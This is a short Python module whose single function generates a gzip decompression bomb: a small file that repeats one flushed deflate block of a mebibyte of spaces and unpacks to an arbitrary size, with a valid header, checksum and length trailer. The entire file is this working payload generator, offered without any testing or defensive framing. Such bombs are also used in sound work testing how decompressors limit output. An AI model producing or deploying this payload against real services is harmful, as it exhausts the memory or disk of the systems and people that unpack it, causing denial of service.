"""Makes a small gzip file that unpacks to very much."""

import struct
import zlib


def gzip_bomb(mebibytes):
    """Returns blanks, packed about a thousand to one.

    It compresses one mebibyte and repeats the result, which does not refer to what comes before it.
    """
    blanks = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(mebibytes):
        checksum = zlib.crc32(blanks, checksum)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return head + block * mebibytes + packer.flush() + struct.pack("<II", checksum, mebibytes << 20)
